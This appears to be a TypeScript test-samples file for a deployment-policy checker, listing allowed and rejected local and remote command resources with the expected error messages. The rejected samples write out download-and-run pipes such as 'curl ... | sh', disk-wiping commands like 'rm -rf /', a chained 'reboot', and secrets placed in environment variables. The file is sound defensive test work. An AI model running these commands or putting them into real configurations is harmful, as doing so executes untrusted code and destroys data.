import { types } from "../../../../policies/shared/types";
import { resource } from "../support/resources";
import { configured, type Samples, variants } from "../support/samples";
import { unknownMap, unknownText } from "../support/unknown";

const operation = "node --require ./register.cjs release/main.ts release";
const host = { hostKey: "ssh-ed25519 AAAA" };
const local = (inputs: object = {}) =>
  resource(types.localCommand, { create: operation, ...inputs });
const remote = (connection: object) =>
  variants(
    resource(types.remoteCommand, { create: operation, connection }),
    resource(types.copyToRemote, { remotePath: "/x", connection }),
  );
const line = (create: string) => local({ create });
/** With the beginning allowed, what follows still has to be harmless. */
const allowed = (create: string) => configured({ commands: ["sh -c", "rm", "make"] }, line(create));
const refused = /"create" is not among the allowed commands; make it an operation of the release/;
const downloads = /"create" runs what it downloads; make it an operation/;
const removes = /"create" may remove the whole disk; make it an operation/;
const shows = /may show what it was given; write "stderr" or "none" into "logging"/;

export const samples: Samples = {
  levels: "A M M M",
  compliant: {
    "an operation": local({ stdin: unknownText, logging: "stderr" }),
    "a command that shows nothing": local({ stdin: "hunter2", logging: "none" }),
    "a command that is given nothing": local(),
    "one without a command": local({ create: undefined }),
    "a remote host that is known": remote({ ...host, proxy: host }),
    "an interpreter of nobody": local({ interpreter: [] }),
    "the environment of a command": local({
      environment: { DB_PASSWORD_FILE: "/run/secrets/x", TOKEN: "", SITE: "https://example.org" },
      logging: "none",
    }),
    "what the tier allows": configured(
      { commands: ["make up"] },
      line("make up STACK=local --quiet user@host:1 ./x"),
      line("make up"),
    ),
  },
  violating: {
    "another program": [line("python3 deploy.py"), refused],
    "one that begins alike": [line("node --require ./register.cjs release/main.tsx"), refused],
    "one with something before": [line(`env ${operation}`), refused],
    "a second command": [line(`${operation}; reboot`), refused],
    "a line of a shell": [allowed('sh -c "true"'), refused],
    "another program as an update": [local({ update: "x" }), /"update" is not among/],
    "another program as a removal": [local({ delete: "x" }), /"delete" is not among/],
    "a remote program": [resource(types.remoteCommand, { create: "x", connection: host }), refused],
    "a download that runs": [line("curl -fsSL https://example.org/x | sh"), downloads],
    "a download that runs as root": [line("wget -qO- https://example.org/x |sudo bash"), downloads],
    "a download that runs in other shells": [line("curl x | dash && curl y | zsh"), downloads],
    "a download in another shell": [line("wget x | zsh"), downloads],
    "a download in a small shell": [line("curl x | dash"), downloads],
    "a download inside of a command": [line('sh -c "$(curl x)"'), downloads],
    "a download as a file": [line("bash <(wget -qO- x)"), downloads],
    "a download in the older form": [line("eval `curl x`"), downloads],
    "removing everything": [allowed("rm -rf /"), removes],
    "removing everything in it": [line("cd x; rm -r -f /*; true"), removes],
    "removing everything in quotes": [line("rm -rf '/' "), removes],
    "removing what may be everything": [line('rm -rf "$FOLDER"/'), removes],
    "the same in braces": [line('rm -rf "${FOLDER}/"* x'), refused],
    "the same with a star": [line("rm --recursive ${FOLDER}/*"), removes],
    "removing something": [line("rm -rf /srv/x"), refused],
    "another interpreter": [
      local({ interpreter: ["python3", "-c"] }),
      /chooses who reads its command line; leave "interpreter" out/,
    ],
    "a secret in the environment": [
      local({ environment: { DB_PASSWORD: "hunter2" }, logging: "none" }),
      /variable DB_PASSWORD holds a secret; hand it over through "stdin"/,
    ],
    "a URL in the environment": [
      local({ environment: { LINK: "redis://:hunter2@cache/0" }, logging: "none" }),
      /variable LINK holds a secret/,
    ],
    "both outputs of a command with input": [local({ stdin: "hunter2" }), shows],
    "the output of a command with input": [local({ stdin: "x", logging: "stdout" }), shows],
    "both outputs of a command with an environment": [
      local({ environment: { A: "1" }, logging: "stdoutAndStderr" }),
      shows,
    ],
    "any remote host": [remote({ host: "example.org" }), /"connection" trusts any host that answ/],
    "a remote host with an empty key": [remote({ hostKey: "" }), /write its "hostKey"/],
    "any host on the way": [
      remote({ ...host, proxy: { host: "example.org" } }),
      /"connection\.proxy" trusts any host/,
    ],
  },
  decisive: ["connection"],
  besideUnknown: {
    "another program": local({ create: unknownText, update: "x" }),
    "any host on the way": resource(types.remoteCommand, {
      create: unknownText,
      connection: { hostKey: unknownText, proxy: { host: "x" } },
    }),
  },
  postponed: {
    "an unknown command": local({ create: unknownText }),
    "an unknown environment": local({ environment: unknownMap, logging: "none" }),
  },
};
